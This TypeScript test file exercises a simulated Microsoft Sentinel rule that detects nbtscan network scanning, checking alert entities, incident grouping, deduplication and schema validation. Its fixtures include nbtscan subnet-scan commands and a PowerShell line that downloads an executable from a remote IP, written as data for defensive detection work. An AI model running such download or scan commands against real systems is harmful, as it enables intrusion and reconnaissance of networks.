import { readFileSync } from "node:fs";
import path from "node:path";
import { loadDetectionRule } from "../../functions/detection/rule";
import { alertRowsOf, type AlertRow } from "../../functions/incidents/alertRows";
import { SentinelSimulation, loadSentinelRule } from "../../sandbox/sentinel";
import { SchemaValidationError } from "../../functions/validation";
import { KNOWN_SHA1, makeEvent, makeFileEvent, makeHit } from "../support/events";
import { incidentOf } from "../support/incidents";

const detection = loadDetectionRule();
const ruleFile = JSON.parse(
  readFileSync(
    path.join(__dirname, "..", "..", "infra", "sentinel", "analytics-rule.json"),
    "utf8",
  ),
) as { entityMappings: unknown; customDetails: unknown; alertDetailsOverride: unknown };

function rowsFor(incidentId: string, hits: ReturnType<typeof makeHit>[]): AlertRow[] {
  return alertRowsOf(
    incidentOf(hits, {
      incidentId,
      title: `nbtscan on ${hits[0].event.DeviceName}`,
      severity: "High",
      description: "A description.",
      evidenceComment: "| evidence |",
    }),
  );
}

describe("the Sentinel rule the sandbox applies", () => {
  it("is the one the Bicep deploys: the same file, plus nbtscan.yaml and the query's constants", () => {
    const rule = loadSentinelRule();
    expect(rule.entityMappings).toEqual(ruleFile.entityMappings);
    expect(rule.customDetails).toEqual(ruleFile.customDetails);
    expect(rule.alertDetailsOverride).toEqual(ruleFile.alertDetailsOverride);
    expect(rule.groupByCustomDetails).toEqual(["IncidentKey"]);
    expect(rule.tactics).toEqual(["Discovery"]);
    expect(rule.techniques).toEqual(detection.relevantTechniques.map((t) => t.id));
    expect(rule.queryConstants).toEqual({ Sha1Algorithm: "SHA1", Sha256Algorithm: "SHA256" });
    expect(rule.maxAlertsPerRun).toBe(150);
  });
});

describe("SentinelSimulation", () => {
  const processHit = makeHit(
    makeEvent({ DeviceName: "ws-fin-07.contoso.local", SHA1: KNOWN_SHA1 }),
    { matchedBy: "name+hash", renamedBinary: false },
  );
  const fileHit = makeHit(makeFileEvent({ DeviceName: "ws-fin-07.contoso.local" }));
  const otherHit = makeHit(makeEvent({ DeviceName: "srv-9" }));
  const incidentA = rowsFor("aaaaaaaa-0000-5000-8000-000000000001", [processHit, fileHit]);
  const incidentB = rowsFor("bbbbbbbb-0000-5000-8000-000000000002", [otherHit]);

  it("makes one alert per row, with our title, severity, tactics and custom details", () => {
    const sentinel = new SentinelSimulation();
    expect(sentinel.ingest(incidentA)).toBe(2);
    const alerts = sentinel.runRule();
    expect(alerts.map((a) => [a.name, a.severity, a.description])).toEqual([
      ["nbtscan on ws-fin-07.contoso.local", "High", "A description."],
      ["nbtscan on ws-fin-07.contoso.local", "High", "A description."],
    ]);
    expect(alerts[0].tactics).toEqual(["Discovery"]);
    expect(alerts[0].customDetails).toMatchObject({
      IncidentKey: [incidentA[0].IncidentKey],
      EventKey: [processHit.key],
      MatchedBy: ["name+hash"],
      DeviceId: [processHit.event.DeviceId],
    });
  });

  it("maps the entities the rule's mappings name, skipping the empty ones", () => {
    const sentinel = new SentinelSimulation();
    sentinel.ingest(incidentA);
    const [processAlert, fileAlert] = sentinel.runRule();
    expect(processAlert.entities).toEqual([
      { type: "Host", identifiers: { HostName: "ws-fin-07", DnsDomain: "contoso.local" } },
      { type: "Account", identifiers: { Name: "j.doe", NTDomain: "CONTOSO" } },
      { type: "File", identifiers: { Name: "nbtscan.exe", Directory: "C:\\Tools" } },
      { type: "FileHash", identifiers: { Algorithm: "SHA1", Value: KNOWN_SHA1 } },
      { type: "FileHash", identifiers: { Algorithm: "SHA256", Value: "b".repeat(64) } },
      { type: "Process", identifiers: { CommandLine: "nbtscan.exe -r 10.1.2.0/24" } },
      {
        type: "Process",
        identifiers: { CommandLine: "cmd.exe /c nbtscan.exe -r 10.1.2.0/24" },
      },
    ]);
    // A file event has no command line of its own: no Process entity for it.
    expect(fileAlert.entities.filter((e) => e.type === "Process")).toEqual([
      {
        type: "Process",
        identifiers: { CommandLine: "powershell.exe -nop -c iwr http://10.9.9.9/n.exe" },
      },
    ]);
  });

  it("groups alerts into one incident per IncidentKey, with their entities once each", () => {
    const sentinel = new SentinelSimulation();
    sentinel.ingest(incidentA);
    sentinel.ingest(incidentB);
    sentinel.runRule();
    const incidents = [...sentinel.incidents.values()];
    expect(incidents.map((i) => [i.groupedBy.IncidentKey, i.alerts.length])).toEqual([
      [incidentA[0].IncidentKey, 2],
      [incidentB[0].IncidentKey, 1],
    ]);
    const hosts = incidents[0].entities.filter((e) => e.type === "Host");
    expect(hosts).toHaveLength(1);
  });

  it("adds nothing when the same rows are ingested again (a redelivery) or the rule runs again", () => {
    const sentinel = new SentinelSimulation();
    sentinel.ingest(incidentA);
    expect(sentinel.runRule()).toHaveLength(2);
    sentinel.ingest(incidentA);
    expect(sentinel.runRule()).toHaveLength(0);
    expect(sentinel.table).toHaveLength(4);
    expect(sentinel.incidents.size).toBe(1);
  });

  it("alerts at most 150 rows per run and drains the rest on the next", () => {
    const sentinel = new SentinelSimulation();
    for (let i = 0; i < 4; i++) {
      const hits = Array.from({ length: 40 }, () => makeHit(makeEvent()));
      sentinel.ingest(rowsFor(`cccccccc-0000-5000-8000-00000000000${i}`, hits));
    }
    expect(sentinel.runRule()).toHaveLength(150);
    expect(sentinel.runRule()).toHaveLength(10);
    expect(sentinel.incidents.size).toBe(4);
  });

  it("refuses rows that do not fit the table, as the DCR would", () => {
    const sentinel = new SentinelSimulation();
    expect(() => sentinel.ingest([{ ...incidentB[0], Title: "reserved" }])).toThrow(
      SchemaValidationError,
    );
    expect(sentinel.table).toHaveLength(0);
  });
});
